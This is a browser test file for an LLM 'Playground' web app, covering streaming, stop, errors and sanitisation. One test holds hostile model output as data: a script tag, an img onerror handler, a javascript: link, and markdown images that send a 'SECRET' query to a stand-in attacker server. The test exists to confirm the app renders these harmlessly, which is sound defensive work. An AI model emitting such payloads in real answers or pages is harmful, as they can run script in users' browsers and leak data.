"""The Playground in Chromium: streaming, one-piece answers, Stop, errors, hostile output."""

from __future__ import annotations

import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Dialog, Page

from tests.browser.conftest import IDLE, answer_text, open_app
from tests.servers.ollama import FakeOllama, Script, tokenize
from tests.servers.streamlit_app import AppServer
from tests.servers.vllm import FakeVLLM, completion

ServeApp = Callable[[str], AppServer]

LONG_ANSWER = "## RECOMMENDATION FOR PV PANEL INSTALLATION\n\n" + "".join(
    f"* Point {i}: the household uses 53.76 kWh a day on average.\n" for i in range(40))


def ollama_config(url: str) -> str:
    return f"llm:\n  backend: ollama\n  host: {url}\n  model: llama3.1:8b\n"


@pytest.fixture
def slow_ollama() -> Iterator[FakeOllama]:
    with FakeOllama(script=Script(tokens=tokenize(LONG_ANSWER), delay=0.04)) as server:
        yield server


def generate(page: Page) -> None:
    page.get_by_role("button", name="Generate").click()


def test_model_dropdown_lists_the_servers_models(page: Page, serve_app: ServeApp,
                                                 slow_ollama: FakeOllama) -> None:
    open_app(page, serve_app(ollama_config(slow_ollama.url)))
    model = page.get_by_role("combobox", name="Model")
    assert model.input_value() == "llama3.1:8b"
    model.click()
    page.wait_for_selector("[role='option']")
    options = page.locator("[role='option']").all_inner_texts()
    assert options == ["llama3.1:8b", "mistral:7b"]


def test_answer_grows_in_steps_while_streaming(page: Page, serve_app: ServeApp,
                                               slow_ollama: FakeOllama) -> None:
    open_app(page, serve_app(ollama_config(slow_ollama.url)))
    generate(page)
    lengths: list[int] = []
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        text = answer_text(page)
        visible = len(text.replace("▌", "").rstrip())  # the cursor goes at the final paint
        if not lengths or visible != lengths[-1]:
            lengths.append(visible)
        if "Point 39" in text and "▌" not in text:
            break
        time.sleep(0.05)
    growing = [n for n in lengths if n > 0]
    assert len(growing) >= 3, f"answer appeared in {len(growing)} steps: {lengths}"
    assert growing == sorted(growing)
    page.wait_for_selector("text=Time to first token", timeout=10_000)
    assert "Point 39" in answer_text(page)
    assert "▌" not in answer_text(page)  # the final paint drops the cursor


def test_vllm_answer_appears_at_once(page: Page, serve_app: ServeApp) -> None:
    text = "## RECOMMENDATION\n\nInstall **31 panels** within the $15,000 budget."
    with FakeVLLM(200, completion(text, completion_tokens=17), delay=1.5) as server:
        config = f"llm:\n  backend: vllm\n  host: {server.url}\n  model: smollm2\n"
        open_app(page, serve_app(config))
        generate(page)
        seen: set[str] = set()
        waiting_shown = False
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            waiting_shown = waiting_shown or page.get_by_text("Waiting for vLLM").count() > 0
            current = answer_text(page).strip()
            seen.add(current)
            if "31 panels" in current:
                break
            time.sleep(0.05)
    assert waiting_shown, "no elapsed-time indicator while waiting"
    partial = {s for s in seen if s and "31 panels" not in s}
    assert not partial, f"the one-piece answer was shown in parts: {partial}"
    assert "$15,000 budget" in answer_text(page)  # a dollar amount, not LaTeX
    page.wait_for_selector("text=(one piece)", timeout=10_000)


def test_stop_keeps_the_partial_text_and_closes_the_connection(
        page: Page, serve_app: ServeApp, slow_ollama: FakeOllama) -> None:
    open_app(page, serve_app(ollama_config(slow_ollama.url)))
    generate(page)
    page.wait_for_function(
        "document.querySelector('.st-key-answer')?.innerText.includes('Point 3')",
        timeout=20_000)
    clicked = time.monotonic()
    page.get_by_role("button", name="Stop").click()
    assert slow_ollama.client_closed.wait(5), "the server never saw the connection close"
    assert slow_ollama.hangups[0] - clicked < 2
    page.wait_for_selector("text=Stopped. The partial answer above is kept.", timeout=10_000)
    text = answer_text(page)
    assert "Point 3" in text and "Point 39" not in text


def test_server_down_shows_the_fix_not_a_traceback(page: Page, serve_app: ServeApp,
                                                   closed_port: int) -> None:
    config = ollama_config(f"http://127.0.0.1:{closed_port}") + \
        "app:\n  fallback_to_embedded: false\n"
    open_app(page, serve_app(config))
    assert page.get_by_text("Make sure Ollama is running").count() >= 1
    generate(page)
    page.wait_for_selector(IDLE, timeout=30_000)
    page.wait_for_selector("text=Cannot reach Ollama", timeout=30_000)
    assert page.locator("[data-testid='stException']").count() == 0
    assert "Traceback" not in page.content()


class _LeakCatcher:
    """An 'attacker' web server: any request it gets means the page fetched something."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        catcher = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                catcher.requests.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._httpd.server_address[1]}"
        threading.Thread(target=self._httpd.serve_forever, args=(0.05,), daemon=True).start()

    def close(self) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()


def test_hostile_answer_runs_nothing_and_fetches_nothing(page: Page, serve_app: ServeApp,
                                                         fake_ollama: FakeOllama) -> None:
    leak = _LeakCatcher()
    hostile = (
        "## Report\n\n<script>window.__pwned = 1; alert('script')</script>\n\n"
        f"<img src=\"{leak.url}/img-tag.png\" onerror=\"window.__pwned = 2\">\n\n"
        "[Click for details](javascript:window.__pwned=3)\n\n"
        f"![chart]({leak.url}/leak.png?q=SECRET)\n\n"
        f"[ref-img]: {leak.url}/ref.png\n\nDone: $15,000 budget.\n"
    )
    fake_ollama.script = Script(tokens=tokenize(hostile), go_escape=False)
    dialogs: list[str] = []
    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    try:
        open_app(page, serve_app(ollama_config(fake_ollama.url)))
        generate(page)
        page.wait_for_selector("text=Done:", timeout=20_000)
        page.wait_for_selector(IDLE, timeout=20_000)
        time.sleep(1)  # give any image or script the chance to misbehave
        answer = page.locator(".st-key-answer")
        assert answer.locator("img").count() == 0
        assert answer.locator("script").count() == 0
        hrefs = answer.locator("a").evaluate_all("els => els.map(e => e.href)")
        assert all(h.startswith(("http://", "https://", "mailto:")) for h in hrefs), hrefs
        answer.get_by_text("Click for details").click()  # no longer a link: does nothing
        time.sleep(0.3)
        assert page.evaluate("window.__pwned") is None
        assert dialogs == []
        assert leak.requests == [], f"the page fetched {leak.requests}"
        assert "<script>" in answer.inner_text()  # shown as text, harmlessly
    finally:
        leak.close()


def test_a_new_run_clears_the_last_runs_figures_the_moment_it_starts(
        page: Page, serve_app: ServeApp, slow_ollama: FakeOllama) -> None:
    """While a new run streams, no statistic, note or download of the last run is on the
    page (the last run's window under the new run's answer)."""
    open_app(page, serve_app(ollama_config(slow_ollama.url)))
    generate(page)
    page.wait_for_selector("text=Context window", timeout=30_000)
    page.wait_for_selector(IDLE, timeout=20_000)
    assert page.locator("[data-testid='stMetric']").count() >= 9
    generate(page)
    deadline = time.monotonic() + 20
    while len(slow_ollama.chat_requests) < 2 or "Point 3" not in answer_text(page) \
            or "Point 39" in answer_text(page):  # the new run's answer, still streaming
        assert time.monotonic() < deadline, answer_text(page)[-200:]
        time.sleep(0.05)
    assert page.locator("[data-testid='stMetric']").count() == 0
    assert page.get_by_role("button", name="⬇ JSON").count() == 0
    assert page.get_by_text("Grounding:").count() == 0
    page.wait_for_selector("text=Context window", timeout=30_000)
